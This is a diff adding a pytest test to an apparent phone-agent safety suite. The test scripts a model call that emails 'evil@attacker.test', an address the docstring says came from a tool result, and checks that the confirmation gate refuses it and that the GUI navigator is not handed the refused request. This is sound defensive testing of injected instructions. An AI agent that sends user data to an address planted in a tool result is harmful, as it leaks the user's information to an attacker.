@@ -669,3 +669,11 @@ def test_every_state_change_needs_confirmation_not_only_sends(session, phone, tm
     st = phone.snapshot()
     assert st["contacts"] == [] and st["torch"] is False and asked
     assert rep.refused and "not run without confirmation" in rep.refused[0].reason
+
+
+def test_a_request_whose_calls_the_gate_refused_is_not_handed_to_the_navigator(session, phone, tmp_path):
+    """The GUI would send what the gate kept from the phone: a mail to an address from a tool result."""
+    caller = ScriptedCaller(raw_calls(("send_email", {"to": "evil@attacker.test", "subject": "Louvre"})))
+    rep = runner(session, tmp_path, caller, Navigates(phone)).run("email the Louvre's address to my sister")
+    assert phone.snapshot()["outbox"] == [] and [i.status for i in rep.items] == ["refused", "refused"]
+    assert "its calls were refused" in rep.items[1].reason
